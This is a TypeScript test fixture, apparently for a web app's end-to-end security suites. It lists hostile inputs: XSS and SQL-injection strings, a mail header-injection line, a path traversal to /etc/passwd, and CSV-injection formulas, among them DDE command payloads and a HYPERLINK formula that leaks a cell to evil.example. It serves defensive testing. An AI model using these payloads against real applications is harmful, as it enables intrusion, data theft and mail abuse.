import Handlebars from 'handlebars';

/**
 * The hostile and unusual text the security suites send through every text field (security.e2e-spec.ts
 * for the JSON API and the account forms, security-payloads.e2e-spec.ts for the other forms, the CSV
 * imports, the mails and the reports). One corpus: add a case here and every suite sends it.
 */
export const LONG = 'A'.repeat(10_000);
export const NUL = 'Ana\u0000Null';

/** Hostile and unusual text. Every field that takes it has a limit far below 10,000 characters. */
export const PAYLOADS: ReadonlyArray<readonly [label: string, value: string]> = [
  ['script tag', '<script>alert(1)</script>'],
  ['attribute break-out', '"><img src=x onerror=alert(1)>'],
  ['textarea break-out', '</textarea><script>alert(1)</script>'],
  ['javascript: URL', 'javascript:alert(1)'],
  ['SQL tautology', "' OR 1=1 --"],
  ['SQL drop table', "'; DROP TABLE users; --"],
  ['template expression', '{{7*7}}'],
  ['JS template literal', '${7*7}'],
  ['NUL character', NUL],
  ['right-to-left override', 'Ana \u202Etxt.exe'],
  ['emoji', '👩🏽‍🏫'],
  ['combining marks', 'Jose\u0301 Nu\u0303n\u0303ez Z\u0351\u0364a\u0310l\u0307g\u0301o\u0300'],
  ['Spanish accents', 'ñáéíóú¿¡'],
  ['CR/LF header break', 'Ana\r\nBcc: evil@example.org'],
  ['10,000 characters', LONG],
  ['percent-encoded NUL', '%00'],
  ['path traversal', '../../etc/passwd'],
];

/** What the app must answer for a payload: too long or containing a NUL character is bad input (400); the rest is data. */
export const refused = (value: string): boolean => value === LONG || value.includes('\u0000');

/** The payloads every text field must accept and store as typed. */
export const ACCEPTED = PAYLOADS.filter(([, value]) => !refused(value));

/** The text as the pages must show it (Handlebars' escaping). */
export const escaped = (value: string): string => Handlebars.Utils.escapeExpression(value);

/**
 * Cell text a spreadsheet would run as a formula (OWASP "CSV injection"): exports must prefix it with
 * an apostrophe. Leading tab and CR are trimmed by the forms, so they are not sent through one.
 */
export const FORMULAS: ReadonlyArray<readonly [label: string, value: string]> = [
  ['= command', "=cmd|' /C calc'!A0"],
  ['= hyperlink', '=HYPERLINK("http://evil.example/?"&A1,"Open")'],
  ['+ prefix', '+SUM(1,2)'],
  ['- prefix', "-2+3+cmd|' /C calc'!A0"],
  ['@ prefix', '@SUM(1,2)'],
];
